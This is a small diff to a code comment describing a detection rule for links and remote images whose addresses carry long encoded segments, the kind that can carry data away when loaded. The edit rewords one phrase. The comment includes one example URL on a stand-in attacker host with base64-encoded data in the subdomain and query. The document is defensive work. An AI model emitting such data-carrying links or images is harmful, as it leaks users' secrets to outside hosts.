@@ -1,5 +1,5 @@
 /**
- * Links and remote pictures that can carry something away, whoever follows or loads them: whose address has long parts that
+ * Links and remote pictures that can carry something away when a person or program follows or loads them: whose address has long parts that
  * are neither words nor short numbers. Whether such a part is a key of an honest page or encoded mail cannot be seen.
  *
  *   https://c2VjcmV0LXBhc3N3b3Jk.evil.example/p.gif?d=Zm9ydHktb25lIHRob3VzYW5k#…
